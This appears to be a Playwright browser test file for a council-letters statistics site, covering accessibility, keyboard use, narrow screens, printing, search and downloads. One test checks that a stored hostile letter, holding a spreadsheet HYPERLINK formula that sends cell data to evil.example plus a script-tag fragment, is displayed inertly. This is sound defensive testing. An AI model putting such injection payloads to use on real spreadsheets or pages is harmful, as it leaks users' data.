/**
 * The pages in Chromium, headless: every page, without script, by keyboard, at 320 pixels, on paper, and axe-core finds nothing
 * serious. `CHROMIUM` names the program where it is not Debian's.
 */
import { existsSync, readFileSync } from "node:fs";
import { createRequire } from "node:module";
import { pathToFileURL } from "node:url";
import type { AxeResults } from "axe-core";
import { type Browser, type BrowserContext, chromium, type Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { openArchive } from "../../../src/extract/archive.ts";
import { openWarehouse } from "../../../src/load/warehouse.ts";
import { writeNewFile } from "../../../src/new-file.ts";
import { openArchivedReader } from "../../../src/serve/pages/archived.ts";
import { readWarehouse, startMemory } from "../../../src/serve/pages/reading.ts";
import { writeReport } from "../../../src/serve/pages/report.ts";
import { makeSite, type TestSite } from "../../support/site.ts";

const CHROMIUM = process.env.CHROMIUM ?? "/usr/bin/chromium";
const AXE = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");
/** Place of the focused element among all that can be, and whether it is seen to be focused. Runs in the page. */
const FOCUS = `(() => {
  const one = document.activeElement;
  const { outlineStyle, boxShadow } = getComputedStyle(one);
  const all = [...document.querySelectorAll("a, button, input, select, textarea, [tabindex]")];
  return [all.indexOf(one), outlineStyle !== "none" || boxShadow !== "none"];
})()`;
const COVENTRY = "/councils/E08000026";

describe.skipIf(!existsSync(CHROMIUM))(`the pages in Chromium (skipped where ${CHROMIUM} is not installed)`, () => {
  let site: TestSite;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let letter: string;
  /** Every page, and the addresses that the browser asked for. */
  let pages: string[];
  const asked: string[] = [];
  const complaints: string[] = [];

  beforeAll(async () => {
    site = await makeSite("postgres");
    browser = await chromium.launch({ executablePath: CHROMIUM, args: ["--no-sandbox", "--disable-dev-shm-usage"] });
    context = await browser.newContext({ baseURL: site.server.url, viewport: { width: 1280, height: 900 } });
    page = await context.newPage();
    page.on("request", (request) => asked.push(request.url()));
    page.on("console", (message) => complaints.push(message.text()));
    page.on("pageerror", (error) => complaints.push(error.message));
    page.on("dialog", (dialog) => complaints.push(dialog.message()));
    const [hostile] = await site.rows("select letter_id from letter where response_date = '2022-06-10'");
    letter = `/letters/${hostile?.letter_id}?line=18`;
    const [cited] = await site.rows("select dfe_citation from answer where answered_by = 'dfe' limit 1");
    pages = ["/", "/councils", COVENTRY, letter, `/citations?of=${encodeURIComponent(String(cited?.dfe_citation))}`];
    pages.push(
      "/measures",
      "/measures/referrals",
      "/measures/referrals?council=E08000026",
      "/disagreements",
      "/referrals",
    );
    pages.push(
      "/revisions",
      "/revisions?area=E08000026",
      "/runs",
      "/search",
      "/search?q=referrals",
      "/directions",
      "/nowhere",
    );
  });
  afterAll(async () => {
    await browser?.close();
    await site.close();
    await site.setting.dispose();
  });

  async function findFaults(): Promise<string[]> {
    await page.evaluate(AXE);
    const results = await page.evaluate<AxeResults>("axe.run()");
    return results.violations.map(({ id, impact, nodes }) => `${impact} ${id}: ${nodes[0]?.html}`);
  }

  test("axe-core finds nothing on any page, nor in the report", async () => {
    for (const path of pages) {
      await page.goto(path);
      expect(await findFaults(), path).toEqual([]);
    }
    const { config } = site.setting;
    const warehouse = await openWarehouse(config);
    const archived = openArchivedReader(openArchive(config.dataDir));
    const report = await readWarehouse(warehouse, startMemory(), (reading) =>
      writeReport(reading, archived, { areaCodes: ["E08000026"] }),
    );
    await warehouse.close();
    const file = `${config.dataDir}/report.html`;
    await writeNewFile(file, report, false);
    const before = asked.length;
    await page.goto(pathToFileURL(file).href);
    expect(await findFaults(), "report").toEqual([]);
    expect(asked.length, "the report asks for itself alone").toBe(before + 1);
    expect(await page.evaluate<string>("getComputedStyle(document.body).fontFamily")).toContain("arial");
  }, 120_000);

  test("nothing of a hostile letter runs, and nothing is asked for elsewhere", async () => {
    for (const path of pages) {
      await page.goto(path);
      expect(await page.evaluate("globalThis.pwned"), path).toBeUndefined();
    }
    await page.goto(letter);
    expect(await page.locator("mark").innerText()).toContain(
      '=HYPERLINK("http://evil.example/?"&A1,"click") <script src=',
    );
    expect(asked.filter((url) => !url.startsWith(site.server.url) && !url.startsWith("file:"))).toEqual([]);
    expect(complaints.filter((text) => !text.includes("404"))).toEqual([]);
  });

  test("a click leads from a cell to the highlighted line, and from another to the row of the file", async () => {
    await page.goto("/councils/E06000016");
    await page
      .getByRole("link", { name: /^3,434/ })
      .first()
      .click();
    expect(await page.locator("mark").innerText()).toBe("2020/21: 3,434");
    const place = await page.locator(".line--cited").boundingBox();
    expect([place !== null && place.y > 0, place !== null && place.y + place.height < 900]).toEqual([true, true]);
    await page.goto(COVENTRY);
    await page
      .getByRole("link", { name: /^5,754/ })
      .first()
      .click();
    expect(await page.locator(".row-table__cited mark").innerText()).toBe("5754");
    expect(await page.getByRole("link", { name: /find-statistics\/children-in-need\/2021$/ }).count()).toBe(1);
  });

  test("searches, sorts and downloads", async () => {
    await page.goto("/");
    await page.getByLabel("Words in questions").fill("early help");
    await page.getByRole("button", { name: "Search" }).click();
    expect(await page.locator(".found mark").first().innerText()).toBe("early");
    await page.goto("/councils");
    await page.getByRole("link", { name: /^Letters ?, sort/ }).click();
    expect(await page.locator("th[aria-sort]").getAttribute("aria-sort")).toBe("ascending");
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("link", { name: /^Download every council/ }).click(),
    ]);
    expect(download.suggestedFilename()).toBe("councils.csv");
    expect(readFileSync(await download.path(), "utf8")).toContain("E08000026,Coventry,2,");
  });

  test("works by keyboard alone: skip link, visible focus, every control in the order of the page", async () => {
    await page.goto(COVENTRY);
    await page.keyboard.press("Tab");
    const focused = () => page.evaluate<string>("document.activeElement.textContent.trim()");
    expect(await focused()).toBe("Skip to main content");
    expect(
      await page.locator(".govuk-skip-link").evaluate((one) => one.getBoundingClientRect().height),
    ).toBeGreaterThan(10);
    await page.keyboard.press("Enter");
    await page.keyboard.press("Tab");
    expect(await page.evaluate('document.activeElement.closest("main") !== null')).toBe(true);
    const places: number[] = [];
    for (let step = 0; step < 25; step += 1) {
      const [at, isSeen] = await page.evaluate<[number, boolean]>(FOCUS);
      expect(isSeen, `focus ${step} is seen`).toBe(true);
      places.push(at);
      await page.keyboard.press("Tab");
    }
    expect(places).toEqual([...places].sort((one, other) => one - other));
  });

  test("fits 320 pixels without scrolling sideways", async () => {
    const narrow = await context.newPage();
    await narrow.setViewportSize({ width: 320, height: 640 });
    for (const path of pages) {
      await narrow.goto(path);
      const over = await narrow.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth");
      expect(over, path).toBe(0);
    }
    await narrow.close();
  });

  test("reads and works without script", async () => {
    const plain = await browser.newContext({ baseURL: site.server.url, javaScriptEnabled: false });
    const quiet = await plain.newPage();
    await quiet.goto("/directions");
    await quiet.getByLabel("Your council").selectOption({ label: "Coventry" });
    await quiet.getByLabel("The request").fill("1. How many referrals did you receive in 2020/21?");
    await quiet.getByRole("button", { name: "Find what DfE answers" }).click();
    expect(await quiet.locator("pre.copy").innerText()).toContain("You will find: 2020/21: 5,754.");
    await plain.close();
  });

  test("prints: the whole table, no navigation, no addresses behind links", async () => {
    await page.goto(COVENTRY);
    await page.emulateMedia({ media: "print" });
    expect(await page.locator("nav").first().isVisible()).toBe(false);
    expect(await page.evaluate('getComputedStyle(document.querySelector(".scroll")).overflowX')).toBe("visible");
    const after = await page.evaluate(
      'getComputedStyle(document.querySelector("main .govuk-link"), "::after").content',
    );
    expect(after).not.toContain("/");
    expect((await page.pdf({ format: "A4" })).length).toBeGreaterThan(10_000);
    await page.emulateMedia({ media: "screen" });
  });
});
